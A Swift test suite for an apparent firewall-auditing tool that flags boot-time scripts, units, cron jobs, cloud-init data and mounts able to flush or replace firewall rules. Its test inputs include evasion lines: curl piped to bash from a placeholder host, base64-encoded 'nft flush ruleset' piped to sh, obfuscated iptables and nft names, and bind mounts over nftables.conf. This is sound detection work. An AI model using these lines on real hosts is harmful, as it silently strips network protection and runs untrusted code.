import Collectors
import Documents
import Facts
import Site
import Testing

/// What runs at boot and may change the rules without naming a program that does.
@Suite struct BootSuspicionsTests {
    private typealias Given = BootHooksTests

    private static func declared(_ more: String = "") throws -> SiteFile {
        let text = """
            schema: 1
            firewall:
              ingress: [{ proto: tcp, dport: 22, from: any, purpose: work }]
            \(more)
            """
        let source = SourceFile(name: "site.yaml", text: text)
        return try #require(SiteFile.reading([source], bounds: .none).value)
    }

    /// Why the boot layer is unknown; nil where it is known.
    func gap(_ changes: [HostPath: GivenHost.Node]) throws -> Gap? {
        let host = BootHooksTests.host(changes)
        return FirewallLayers().gather(from: host, declared: try Self.declared()).gaps.first
    }

    func reason(_ changes: [HostPath: GivenHost.Node]) throws -> String? {
        try gap(changes)?.sentence
    }

    // A unit that runs this script of the administrator.
    static func script(
        _ text: String, at path: HostPath = "/opt/x"
    ) -> [HostPath: GivenHost.Node] {
        var nodes = Given.unit("[Service]\nExecStart=\(path)\n")
        nodes[path] = Given.program(text)
        return nodes
    }

    @Test func `a script that leads to more files than are followed is not known`() throws {
        var nodes = Self.script("#!/bin/sh\n" + (0..<600).map { ". /opt/p/\($0)\n" }.joined())
        for index in 0..<600 { nodes[HostPath("/opt/p/\(index)")] = Given.file("true\n") }
        #expect(try reason(nodes) == "it leads to more files than are followed")
    }

    @Test func `the last of many directories and of many names is followed`() throws {
        let directories = (0..<40).map { "/opt/d\($0)" }
        let names = (0..<100).map { "./n\($0)" }
        var nodes = Self.script(
            "#!/bin/sh\n" + (directories + names).map { "cd \($0)\n" }.joined())
        for directory in directories { nodes[HostPath(directory)] = .directory() }
        #expect(try reason(nodes) == nil)
        nodes["/opt/d39/n99"] = Given.file(Given.flush)
        #expect(try gap(nodes)?.object == "/opt/d39/n99")
    }

    @Test(arguments: [
        (HostError.Code.notPermitted, "it could not be read"),
        (.tooLarge, "it leads to more files than are followed"),
    ])
    func `a directory whose files run and cannot be seen is not known`(
        code: HostError.Code, sentence: String
    ) throws {
        var nodes = Self.script("#!/bin/sh\n. /opt/hooks/$x.sh\n")
        #expect(try reason(nodes) == nil)
        nodes["/opt/hooks"] = .error(code)
        #expect(try reason(nodes) == sentence)
    }

    @Test func `a large program is known by the libraries that it needs`() throws {
        var bytes = Array("\u{7F}ELF\0libc.so.6\0".utf8)
        var nodes = Self.script("")
        nodes["/opt/x"] = .file(bytes + [UInt8](repeating: 0, count: 5 << 20), mode: 0o755)
        #expect(try reason(nodes) == nil)
        bytes += Array("libnftables.so.1\0".utf8)
        nodes["/opt/x"] = .file(bytes + [UInt8](repeating: 0, count: 5 << 20), mode: 0o755)
        #expect(try reason(nodes) == "it is a program that changes the rules, under another name")
    }

    @Test func `a text that is too large to be read is no machine code`() throws {
        let filler = [UInt8](repeating: UInt8(ascii: "#"), count: 5 << 20)
        var nodes = Self.script("")
        nodes["/opt/x"] = .file(Array("#!/bin/sh\n".utf8) + filler, mode: 0o755)
        let gap = try #require(try gap(nodes))
        #expect(gap.object == "/opt/x")
        #expect(gap.code == .tooLarge)
        nodes["/opt/x"] = .file([0x7F, 0x45, 0x4C, 0x46, 0] + filler, mode: 0o755)
        #expect(try reason(nodes) == nil)
    }

    @Test(arguments: [
        "for x in ip ip6; do ${x}tables -F; done", "$PREFIX/sbin/${x}tables -F",
        "/usr/sbin/ipt* -F", "/usr/sbin/n?t flush ruleset", "{ip,ip6}tables -F",
        "x=ip; x+=tables; $x -F", "a=$1; b=$2; $a$b -F", "X=$a$b\n$X -F", "/usr/sbin/$1 -F",
        "cat <<E\nit's\nE\n${x}tables -F\ncat <<E\nit's\nE", "chroot / ${x}t flush ruleset",
        "ip netns exec a ${x}t flush ruleset", "echo \"${x}ft flush ruleset\" > /srv/s; sh /srv/s",
        "$'\\x6eft' flush ruleset", "T=${x}tables\n$T -F",
    ])
    func `a name that is put together may be that of a program`(line: String) throws {
        #expect(
            try gap(Self.script("#!/bin/sh\n\(line)\n"))?.sentence
                == "it puts a program's name together from parts, and that may be one that changes the rules"
        )
    }

    @Test(arguments: [
        "\"ip\"tables -F", "i\\ptables -F", "n'f't flush ruleset", "sh -c 'n\"ft\" flush ruleset'",
        "ip\\\ntables -F",
    ])
    func `quotes do not hide a name`(line: String) throws {
        #expect(
            try reason(Self.script("#!/bin/sh\n\(line)\n"))
                == "it names a program that changes the rules, and what it does is not followed")
    }

    @Test(arguments: [
        "eval \"$RULES\"", "echo \"$X\" | at now", "echo bmZ0IGZsdXNoIHJ1bGVzZXQK | base64 -d | sh",
        "$(rev /opt/y) -F",
        "curl -s https://host.invalid/x | bash", "sh -c \"$1\"", ". \"$1\"",
        "bash <(base64 -d /opt/y)", "base64 -d /opt/y | python3 -",
        "X=`printf tfn | rev`\n$X flush ruleset", "su -c 'eval \"$X\"'",
        "find /opt -exec sh -c 'eval $1' _ {} +",
    ])
    func `text that is made when it runs is not known`(line: String) throws {
        #expect(
            try reason(Self.script("#!/bin/sh\n\(line)\n"))
                == "it runs text that only exists when it runs")
    }

    @Test(arguments: [
        "DAEMON=/usr/bin/d\nexec $DAEMON --log \"$LOG/$NAME.log\" \"$@\"",
        "tar czf /var/backups/$(date +%F).tgz /srv/*",
        "JAVA=$(which java || true)\n\"$JAVA\" -jar /opt/x.jar",
        "HERE=$(dirname \"$0\")\n. \"$HERE/lib.sh\"\n\"$HERE/bin/run\" $*",
        "find /srv -name '*.tmp' | xargs rm -f", "echo 'it uses nftables and eval'",
        "[ -x /usr/bin/y ] && for f in a b; do echo $f; done", "tc qdisc add dev eth0 root fq",
        "ip link set dev eth0 up", "case $1 in\nstart) : ;;\nesac", "# eval nft",
        "psql -c \"SELECT $1\"", "php-fpm --nodaemonize", "python3 /opt/app/main.py --port $PORT",
        "awk '$1 ~ /x/ { print $2 }' /srv/y", "jq '. | length' /srv/y", "su -c 'date +%F'",
        "i=$((i + 1))\ncat <<EOF\nx\nEOF",
    ])
    func `an ordinary script is silent`(line: String) throws {
        #expect(try reason(Self.script("#!/bin/sh\n\(line)\n")) == nil)
    }

    @Test(arguments: ["/opt/hooks/*", "/opt/hooks/$x", "run-parts /opt/hooks"])
    func `any file of a directory that may be run is followed`(words: String) throws {
        var nodes = Self.script("#!/bin/sh\n\(words)\n")
        nodes["/opt/hooks/a"] = Given.program("#!/bin/sh\ntrue\n")
        #expect(try reason(nodes) == nil)
        nodes["/opt/hooks/b"] = Given.program(Given.flush)
        #expect(try gap(nodes)?.object == "/opt/hooks/b")
    }

    @Test(arguments: ["cd /opt/lib; sh y", "PATH=/opt/lib:$PATH\ny", ". /opt/lib/$1"])
    func `a name without a directory is looked for where the text says`(line: String) throws {
        var nodes = Self.script("#!/bin/sh\n\(line)\n")
        nodes["/opt/lib/y"] = Given.program(Given.flush)
        #expect(try gap(nodes)?.object == "/opt/lib/y")
    }

    @Test(arguments: [
        ("import nftables", true), ("from iptc import Chain", true),
        ("subprocess.run(['nft', 'flush', 'ruleset'])", true),
        ("subprocess.run([\"ip\" + \"tables\", \"-F\"])", true),
        ("subprocess.run([\"/usr/sbin/n\" + \"ft\", \"flush\"])", true),
        ("\"\".join([\"ip\", \"tables\"])", true),
        ("subprocess.run([f\"/usr/sbin/{x}tables\", \"-F\"])", true),
        ("os.system(\"%stables -F\" % x)", true), ("exec(open('/opt/y').read())", true),
        ("os.system(base64.b64decode(b'bmZ0'))", true), ("import rules", true),
        ("import json, os, base64", false), ("cursor.exec(\"SELECT %s\" % x)", false),
        ("re.sub('{x}', \"%s\" % y, z)", false),
    ])
    func `a program of python is read for what it may do`(line: String, isSuch: Bool) throws {
        var nodes = Self.script("#!/usr/bin/python3\n\(line)\n")
        nodes["/opt/rules.py"] = Given.file("RULES = 'nft flush ruleset'\n")
        #expect(try (reason(nodes) != nil) == isSuch)
    }

    @Test func `a program under another name is known by where its link leads`() throws {
        var nodes = Given.unit("[Service]\nExecStart=/usr/local/sbin/fw flush ruleset\n")
        nodes["/usr/local/sbin/fw"] = .link("/usr/sbin/nft")
        #expect(
            try reason(nodes) == "it is a program that changes the rules, under another name")
        nodes["/usr/sbin/iptables-save"] = .link("/usr/sbin/xtables-nft-multi")
        nodes["/usr/sbin/xtables-nft-multi"] = Given.program("\u{0}code")
        for (path, node) in Given.unit("[Service]\nExecStart=/usr/sbin/iptables-save\n") {
            nodes[path] = node
        }
        #expect(try reason(nodes) == nil)
    }

    @Test func `a copy of a program is known by its bytes or its libraries`() throws {
        var nodes = Given.unit("[Service]\nExecStart=/opt/fw flush ruleset\n")
        nodes["/opt/fw"] = Given.program("\u{7F}ELF\u{0}libc.so.6\u{0}")
        #expect(try reason(nodes) == nil)
        nodes["/opt/fw"] = Given.program("\u{7F}ELF\u{0}libnftables.so.1\u{0}")
        #expect(
            try reason(nodes) == "it is a program that changes the rules, under another name")
        for (path, node) in Given.unit("[Service]\nExecStart=/usr/bin/fw flush ruleset\n") {
            nodes[path] = node
        }
        nodes["/usr/sbin/nft"] = Given.program("\u{7F}ELF\u{0}x")
        nodes["/usr/bin/fw"] = Given.program("\u{7F}ELF\u{0}y")
        #expect(try reason(nodes) == nil)
        nodes["/usr/bin/fw"] = Given.program("\u{7F}ELF\u{0}x")
        #expect(
            try reason(nodes) == "it is a program that changes the rules, under another name")
    }

    @Test(arguments: [
        "/usr/sbin/tc filter add dev eth0 ingress bpf obj /opt/x.o",
        "/sbin/ip link set eth0 xdp obj /x",
    ])
    func `programs that see packets before the rules are not followed`(line: String) throws {
        #expect(
            try reason(Given.unit("[Service]\nExecStart=\(line)\n"))
                == "it attaches programs that see packets before the rules, and may drop or redirect them"
        )
    }
}

extension BootSuspicionsTests {
    @Test(arguments: [
        "cp /opt/y /etc/nftables.conf", "cat /opt/y > /etc/nftables.conf",
        "ln -sf /opt/y /etc/nftables.conf",
        "sed -i s/22/any/ /etc/nftables.conf", "cp /opt/nftables.conf /etc",
        "cd /etc\ncp /opt/y nftables.conf",
    ])
    func `who changes what is loaded decides as well`(line: String) throws {
        let gap = try #require(try gap(Self.script("#!/bin/sh\n\(line)\n")))
        #expect(gap.object == "/opt/x")
        #expect(gap.sentence == "it names a file that the rules are loaded from, and may change it")
        var cron = ["/etc/cron.d/x" as HostPath: Given.file("@reboot root \(line)\n")]
        cron["/etc/cron.d/x"] = Given.file("@reboot root /opt/x\n")
        cron["/opt/x"] = Given.program("#!/bin/sh\n\(line)\n")
        #expect(try self.gap(cron)?.object == "/opt/x")
    }

    @Test(arguments: ["cp /etc/nftables.conf /srv/kept", "grep drop /etc/nftables.conf"])
    func `who reads what is loaded does not`(line: String) throws {
        #expect(try reason(Self.script("#!/bin/sh\n\(line)\n")) == nil)
    }

    @Test(arguments: ["echo x > /etc/nftables.d/y.rules", "cp /srv/y /etc/nftables.d/"])
    func `a new file that would be included changes what is loaded`(line: String) throws {
        var nodes = Self.script("#!/bin/sh\n\(line)\n")
        nodes["/etc/nftables.conf"] = Given.file("include \"/etc/nftables.d/*.rules\"\n")
        nodes["/etc/nftables.d/a.rules"] = Given.file("table inet x { }\n")
        #expect(
            try reason(nodes)
                == "it names a file that the rules are loaded from, and may change it")
    }

    @Test(arguments: [
        ("/etc/tmpfiles.d/x.conf", "L+ /etc/nftables.conf - - - - /opt/open\n", true),
        ("/usr/local/lib/tmpfiles.d/x.conf", "C+ /etc - - - - /opt/etc\n", true),
        ("/etc/tmpfiles.d/x.conf", "r /etc/*.conf\n", true),
        ("/etc/tmpfiles.d/x.conf", "d /etc/own 0755 root root -\n", false),
        ("/etc/tmpfiles.d/x.conf", "L /etc/mtab - - - - ../proc/self/mounts\n", false),
        ("/etc/fstab", "/opt/open /etc/nftables.conf none bind 0 0\n", true),
        ("/etc/fstab", "/dev/vda1 / ext4 defaults 0 1\n/dev/vda2 /srv ext4 defaults 0 2\n", false),
    ])
    func `tmpfiles and mounts change what is loaded`(
        path: String, text: String, changes: Bool
    ) throws {
        let gap = try gap([HostPath(path): Given.file(text)])
        #expect(gap?.object == (changes ? path : nil))
    }

    @Test(arguments: [
        "ExecStart=/bin/true\nExecStopPost=/usr/sbin/nft flush ruleset",
        "Type=oneshot\nExecStart=/bin/true\nExecStop=/usr/sbin/nft flush ruleset",
        "WorkingDirectory=/opt\nExecStart=/bin/sh y",
        "Environment=PATH=/opt\nExecStart=/usr/bin/env y",
    ])
    func `every setting that decides what a unit runs counts`(settings: String) throws {
        var nodes = Given.unit("[Service]\n\(settings)\n")
        nodes["/opt/y"] = Given.program(Given.flush)
        #expect(try reason(nodes) != nil)
        let stays = Given.unit(
            "[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/bin/true\nExecStop=/usr/sbin/nft list ruleset\n"
        )
        #expect(try reason(stays) == nil)
    }

    @Test(arguments: [
        "/etc/cloud/cloud.cfg.d/x.cfg", "/var/lib/cloud/scripts/per-boot/x",
        "/var/lib/cloud/scripts/per-instance/x", "/var/lib/cloud/instances/i/scripts/runcmd",
        "/var/lib/cloud/instances/i/user-data.txt", "/var/lib/cloud/seed/nocloud-net/user-data",
        "/etc/cloud/cloud.cfg",
    ])
    func `cloud-init is asked where it is enabled`(path: HostPath) throws {
        var nodes = [path: Given.file("#cloud-config\nbootcmd:\n - [ nft, flush, ruleset ]\n")]
        #expect(try reason(nodes) == nil)
        nodes["/usr/bin/cloud-init"] = Given.program("code")
        #expect(try gap(nodes)?.object == path.description)
        nodes["/etc/cloud/cloud-init.disabled"] = Given.file("")
        #expect(try reason(nodes) == nil)
    }

    @Test func `what cloud-init is given in a code is not known`() throws {
        let nodes: [HostPath: GivenHost.Node] = [
            "/usr/bin/cloud-init": Given.program("code"),
            "/var/lib/cloud/seed/nocloud/user-data": Given.file(
                "#cloud-config\nwrite_files:\n- encoding: b64\n  content: bmZ0\n"),
        ]
        #expect(try reason(nodes) == "it runs text that only exists when it runs")
    }

    @Test(arguments: [
        "/etc/modprobe.d/x.conf", "/etc/systemd/system-environment-generators/x",
        "/etc/initramfs-tools/scripts/init-bottom/x", "/etc/supervisor/conf.d/x.conf",
        "/etc/openvpn/x.conf", "/root/.config/systemd/user/x.service",
    ])
    func `every place where something is run at boot is looked at`(path: HostPath) throws {
        let nodes: [HostPath: GivenHost.Node] = [
            "/usr/sbin/update-initramfs": Given.program("code"),
            "/usr/bin/supervisord": Given.program("code"),
            "/usr/sbin/openvpn": Given.program("code"),
            "/var/lib/systemd/linger/root": Given.file(""),
            path: Given.program("install dummy /opt/x\n"), "/opt/x": Given.program(Given.flush),
        ]
        #expect(try gap(nodes)?.object == "/opt/x")
    }

    @Test func `a unit that is said to load rules and shows none is not known`() throws {
        let site = try Self.declared("  persistence: { unit: x.service }")
        for (line, isKnown) in [
            ("/usr/bin/daemon", false), ("/usr/sbin/nft list ruleset", false),
        ] {
            let host = BootHooksTests.host(
                Given.unit("[Service]\nExecStart=\(line)\n"), isLoaded: false)
            let gap = FirewallLayers().gather(from: host, declared: site).gaps.first
            #expect((gap == nil) == isKnown)
            #expect(
                gap?.sentence
                    == "the unit that is declared to load the rules has no command that is seen to load any"
            )
        }
    }

    @Test(arguments: [
        ("nft list ruleset", false), ("nft -c -f /etc/x", false), ("iptables -L -n", false),
        ("echo nft -f", false), ("ufw status", false), ("nft flush ruleset", false),
        ("nft -f /etc/x", true), ("nft list ruleset; nft -f /etc/x", true),
        ("echo x | nft -f -", true), ("iptables -A INPUT -j DROP", true),
        ("iptables-restore < /etc/x", true), ("iptables $RULE", true), ("ufw enable", true),
        ("nft \"flush ruleset; table inet own { }\"", true),
    ])
    func `showing rules is not loading them`(line: String, isLoading: Bool) throws {
        let site = try Self.declared("  persistence: { unit: x.service }")
        let host = BootHooksTests.host(Self.script("#!/bin/sh\n\(line)\n"), isLoaded: false)
        let gap = FirewallLayers().gather(from: host, declared: site).gaps.first
        #expect((gap?.code == .notRunning) == isLoading)
    }

    @Test func `explaining says why there are no rules`() throws {
        func remarks(_ changes: [HostPath: GivenHost.Node], isLoaded: Bool = true) throws -> String
        {
            let host = BootHooksTests.host(changes, isLoaded: isLoaded)
            let ways = try PacketWays(
                of: host, "tcp 5432 from 203.0.113.9", declared: try Self.declared())
            return ways.lines.joined(separator: "\n")
        }
        let broken = try remarks(["/etc/nftables.conf": Given.file("table inet filter {\n")])
        #expect(broken.contains("/usr/sbin/nft refuses /etc/nftables.conf:"))
        #expect(broken.contains("no rule sees it"))
        #expect(
            try remarks([:], isLoaded: false).contains("nothing that starts at boot loads rules"))
        #expect(
            try remarks(["/usr/sbin/nft": Given.file("code")]).contains(
                "/usr/sbin/nft cannot be run"))
        let opaque = Given.unit("[Service]\nExecStart=/usr/sbin/nft flush ruleset\n")
        #expect(try remarks(opaque).contains("x.service: it names a program"))
        #expect(try !remarks([:]).contains("note:"))
    }
}
